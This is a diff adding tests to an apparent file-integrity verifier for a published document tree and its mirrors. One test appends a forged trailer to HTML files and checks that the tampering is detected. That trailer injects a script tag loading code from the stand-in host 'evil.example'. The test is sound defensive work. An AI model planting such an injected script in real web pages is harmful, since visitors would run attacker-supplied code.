@@ -162,6 +162,31 @@ def test_a_tree_that_was_changed_anywhere_is_altered(paper, attack):
     assert finding.verdict is Verdict.ALTERED, finding
 
 
+FORGED = b"<!--tamizdat 1\n--><script src=//evil.example/x.js></script><!--\n-->\n"
+
+
+def test_a_script_in_the_place_of_a_trailer_is_found_in_a_tree_and_on_a_mirror(paper):
+    for file in (paper.tree / "edition" / "files").rglob("*"):
+        if file.is_file():
+            raw = body_of(file.read_bytes())
+            file.unlink()
+            file.write_bytes(raw + (FORGED if raw.startswith(b"<!doctype") else b""))
+    assert mirror(Folder(paper.tree), Trusted(paper.first_root), paper.now, sample=None).verdict is Verdict.ALTERED
+
+    page_of_it = paper.tree / PATH
+    page_of_it.write_bytes(body_of(page_of_it.read_bytes()) + FORGED)
+    for suffix in (".br", ".gz"):
+        (paper.tree / f"{PATH}{suffix}").unlink()
+    finding = tree(paper.tree, Trusted(paper.first_root), paper.now)
+    assert finding.faults == (f"{PATH} was altered",)
+
+
+def test_what_a_carrier_keeps_for_itself_is_no_file_of_the_paper(paper):
+    (paper.tree / ".mirror").mkdir()
+    (paper.tree / ".mirror" / "lock").write_bytes(b"")
+    assert tree(paper.tree, Trusted(paper.first_root), paper.now).verdict is Verdict.AUTHENTIC
+
+
 def test_a_tree_without_a_head_has_no_proof(paper):
     shutil.rmtree(paper.tree / "edition")
 
